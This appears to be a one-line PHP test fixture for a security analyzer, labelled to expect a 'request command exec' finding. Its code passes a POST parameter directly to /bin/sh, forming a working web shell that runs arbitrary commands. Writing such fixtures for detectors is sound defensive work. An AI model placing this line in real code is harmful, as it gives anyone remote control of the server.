<?php
// want: php_request_command_exec
pcntl_exec('/bin/sh', ['-c', $_POST['c']]);
